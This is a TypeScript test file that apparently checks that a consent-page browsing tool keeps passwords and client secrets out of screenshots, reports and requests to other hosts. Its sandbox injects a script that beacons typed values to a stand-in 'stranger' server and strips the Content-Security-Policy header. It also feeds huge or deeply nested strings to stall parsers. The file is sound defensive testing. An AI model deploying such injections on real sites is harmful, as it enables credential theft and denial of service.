import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { EvidenceView } from '../../helpers/report/evidence-view.ts'
import { accepted } from '../../sandbox/behaviors/answers.ts'
import { inAnswer } from '../../sandbox/behaviors/members.ts'
import { onPages } from '../../sandbox/behaviors/pages.ts'
import type { Behavior } from '../../sandbox/index.ts'
import { expect, oneLine, test } from './hostile-test.ts'

const PASSWORD = 'Marigold-7_lantern.42'
const PORTAL_PASSWORD = 'Juniper-3_window.97'
const CLIENT_SECRET = 'wherry.oak_0815-Prussian'
const SECRETS = [PASSWORD, PORTAL_PASSWORD, CLIENT_SECRET]

const printed = (text: string) => `<p>You typed: ${text}</p>`

/** Pages that print secrets as text, one of them only by its style sheet, and send typed text to a stranger. */
const prints = (stranger: string): Behavior => {
  const print = (endpoint: 'pages' | 'portal', text: string): Behavior => ({
    response: {
      [endpoint]: (response: { body: string; setHeader(name: string, value?: string): void }) => {
        if (!response.body.includes('<main>')) return
        const isChoice = response.body.includes('type="radio"')
        const style = `<style>main::before { content: "${PASSWORD}" }</style>`
        const send = `onchange = ({ target }) => navigator.sendBeacon('${stranger}/collect', target.value)`
        response.setHeader('Content-Security-Policy')
        response.body = response.body.replace(
          '</body>',
          () => `${isChoice ? style : printed(text)}<script>${send}</script></body>`,
        )
      },
    },
  })
  const [pages, portal] = [
    print('pages', `${PASSWORD}, with the secret ${CLIENT_SECRET}`),
    print('portal', `${PORTAL_PASSWORD} ${btoa(`app:${CLIENT_SECRET}`)}`),
  ]
  return { response: { ...pages.response, ...portal.response } }
}

/** Texts of up to 0.8 MB in a member, a title and a body. They slow a backtracking parser down, or overflow its stack. */
const LONG: readonly Behavior[] = [
  inAnswer('client-credentials', (body) => Object.assign(body, { error_description: '\\'.repeat(400_000) })),
  onPages((html) => html.replace(/<title>.*<\/title>/, () => `<title>${'\\"'.repeat(300_000)}</title>`)),
  {
    response: {
      exchange: accepted((response) => {
        const arrays = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
        response.body = `${response.body.slice(0, -1)},"deep":${arrays}}`
        response.setHeader('Content-Type', 'application/json')
      }),
    },
  },
]

/** A server of someone else, under a host name that is not in the configuration. */
async function startStranger() {
  const sent: string[] = []
  const server = createServer(async (request, response) => {
    let body = ''
    for await (const part of request) body += part
    sent.push(`${request.method} ${request.url} ${body}`)
    response.end('<h1>Sign in</h1>')
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://localhost:${port}`,
    sent,
    close() {
      server.close()
      server.closeAllConnections()
    },
  }
}

test('a printed secret is in no picture and goes to no other host, and long texts do not stall a run', async ({
  scene,
}) => {
  const stranger = await startStranger()
  const { run } = await scene([prints(stranger.origin), ...LONG], {
    portal: true,
    credentials: { password: PASSWORD, portalPassword: PORTAL_PASSWORD, clientSecret: CLIENT_SECRET },
  })
  const { end, report, stdout, stderr, read } = await run({ VERBOSE: 'yes' })
  stranger.close()
  expect(end, stdout + stderr).toBe(0)
  expect(report?.verdict).toBe('kept')
  expect(report?.clauses.filter(({ outcome }) => outcome === 'inconclusive')).toEqual([])
  expect(stdout + stderr).not.toContain('RangeError')

  const view: EvidenceView = JSON.parse(read('reports/evidence.json'))
  const pages = Object.values(view.consents).flatMap((consent) => consent.pages)
  expect(pages.length).toBeGreaterThan(5)
  const reason = expect.stringMatching(/^the page shows <\w+#[0-9a-f]{10}>/)
  for (const { title, screenshot, noPicture } of pages)
    expect([title, screenshot, noPicture]).toEqual([title, undefined, reason])

  expect(stranger.sent.join('\n'), 'values that are not secret are sent').toContain('dp-harbour')
  expect(stranger.sent.filter((text) => SECRETS.some((secret) => text.includes(secret)))).toEqual([])
  for (const name of ['consent_password', 'portal_password'])
    expect(oneLine(stdout)).toMatch(
      new RegExp(
        `POST ${stranger.origin} with <${name}#[0-9a-f]{10}> from the page at http://127[^ ]+ was not sent`,
      ),
    )
  for (const secret of SECRETS)
    for (const text of [
      stdout,
      stderr,
      ...['evidence.json', 'contract.html', 'verdict.json'].map((name) => read(`reports/${name}`)),
    ])
      expect(text).not.toContain(secret)
})
